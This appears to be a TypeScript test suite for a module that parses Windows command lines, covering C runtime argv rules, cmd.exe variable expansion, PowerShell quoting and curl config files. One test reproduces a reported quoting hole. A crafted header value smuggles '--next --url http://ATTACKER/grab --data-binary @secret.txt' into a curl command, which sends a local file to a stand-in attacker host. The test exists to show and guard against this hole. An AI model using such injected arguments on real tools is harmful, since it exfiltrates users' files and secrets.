// The shell rules the Windows commands are checked with (shellRules.ts) give what their documentation's own examples
// say, and they see the hole issue 67 measured in the old cmd.exe line.
import assert from 'node:assert/strict';
import {
  cmdLine,
  crtArgv,
  curlConfig,
  legacyCommandLine,
  psTokens,
  standardCommandLine,
  type QuoteVariant,
} from './shellRules';

describe('shell rules, from their documentation', () => {
  it("the C runtime's argv: the table of learn.microsoft.com's 'Parsing C command-line arguments'", () => {
    const table: [string, string[]][] = [
      ['"a b c" d e', ['a b c', 'd', 'e']],
      ['"ab\\"c" "\\\\" d', ['ab"c', '\\', 'd']],
      ['a\\\\\\b d"e f"g h', ['a\\\\\\b', 'de fg', 'h']],
      ['a\\\\\\"b c d', ['a\\"b', 'c', 'd']],
      ['a\\\\\\\\"b c" d e', ['a\\\\b c', 'd', 'e']],
    ];
    for (const v of ['toggle', 'stay', 'leave'] as QuoteVariant[])
      for (const [line, args] of table) assert.deepEqual(crtArgv(`prog ${line}`, v).slice(1), args, `${v}: ${line}`);
    // `""` inside quotes: the one place the runtimes differ.
    assert.deepEqual(crtArgv('p a"b"" c d', 'leave').slice(1), ['ab"', 'c', 'd']);
    assert.deepEqual(crtArgv('p a"b"" c d', 'stay').slice(1), ['ab" c d']);
    assert.deepEqual(crtArgv('p a"b"" c d', 'toggle').slice(1), ['ab c d']);
    assert.deepEqual(crtArgv('"C:\\Program Files\\curl.exe" -s'), ['C:\\Program Files\\curl.exe', '-s']);
  });

  it('cmd.exe: %VAR% first, then quotes, ^ and the operators; !VAR! and ^ again with delayed expansion', () => {
    const env = { PATH: 'C:\\Windows', X: '1' };
    assert.deepEqual(cmdLine('echo "a&b" & echo c^&d %PATH% %NOPE%', env, false), [
      { text: 'echo "a&b"' },
      { op: '&' },
      { text: 'echo c&d C:\\Windows %NOPE%' },
    ]);
    assert.deepEqual(cmdLine('a && (b || c) > f', env, false), [
      { text: 'a' },
      { op: '&&' },
      { op: '(' },
      { text: 'b' },
      { op: '||' },
      { text: 'c' },
      { op: ')' },
      { op: '>' },
      { text: 'f' },
    ]);
    assert.deepEqual(cmdLine('echo "!X! ^^"', env, true), [{ text: 'echo "1 ^"' }]);
    assert.deepEqual(cmdLine('echo "!X! ^^"', env, false), [{ text: 'echo "!X! ^^"' }]);
    assert.deepEqual(cmdLine('echo "^^"', env, true), [{ text: 'echo "^^"' }], 'no ! in the command: ^ stays');
  });

  it('the old "Copy as curl for cmd.exe" line gives curl --next --url http://ATTACKER/grab (issue 67, point 1)', () => {
    const old =
      'curl.exe -sS -X POST "http://127.0.0.1:1/webhooks" -H "x-a: z\\" ' +
      '-H "x-b: --next --url http://ATTACKER/grab --data-binary @secret.txt -A" ' +
      '-H "Authorization: Bearer %WFS_WEBHOOK_TOKEN%" --data-binary "@C:\\t\\d.body"';
    const [part] = cmdLine(old, { WFS_WEBHOOK_TOKEN: 't' }, false);
    const argv = crtArgv(part!.text!);
    const next = argv.indexOf('--next');
    assert.ok(next > 0, JSON.stringify(argv));
    assert.deepEqual(argv.slice(next, next + 5), [
      '--next',
      '--url',
      'http://ATTACKER/grab',
      '--data-binary',
      '@secret.txt',
    ]);
  });

  it("PowerShell: single quotes verbatim ('' and the typographic ones doubled), $env:NAME in double quotes", () => {
    assert.deepEqual(psTokens(`a 'it''s ‘‘q’’ $x' "Bearer $env:T"; { }`, { T: 'tok' }), [
      { kind: 'word', text: 'a' },
      { kind: 'single', value: "it's ‘q’ $x" },
      { kind: 'double', value: 'Bearer tok' },
      { kind: ';' },
      { kind: '{' },
      { kind: '}' },
    ]);
    assert.throws(() => psTokens('"$(id)"', {}), /expansion/);
    assert.throws(() => psTokens('@args', {}), /bare word/);
  });

  it("PowerShell's native command line: 5.1 drops empty arguments and escapes no quote; 7.3+ escapes as the runtime reads", () => {
    const args = ['a b', 'c"d', '', 'e\\'];
    assert.equal(legacyCommandLine('p', args), 'p "a b" c"d e\\');
    assert.equal(standardCommandLine('p', args), 'p "a b" "c\\"d" "" e\\');
    assert.deepEqual(crtArgv(standardCommandLine('p', [...args, 'f \\'])).slice(1), [...args, 'f \\']);
    assert.notDeepEqual(crtArgv(legacyCommandLine('p', args)).slice(1), args);
  });

  it("curl's config file: the manual's examples and escapes", () => {
    const text = [
      '# curl config file',
      '--location',
      'url = "https://curl.se/docs/"',
      '  header: "X-A: \\"q\\" \\\\ \\t \\x"',
      'user-agent superagent/1.0',
      '-H "Y: 1"',
    ].join('\n');
    assert.deepEqual(curlConfig(text), [
      ['--location', undefined],
      ['url', 'https://curl.se/docs/'],
      ['header', 'X-A: "q" \\ \t x'],
      ['user-agent', 'superagent/1.0'],
      ['-H', 'Y: 1'],
    ]);
  });
});
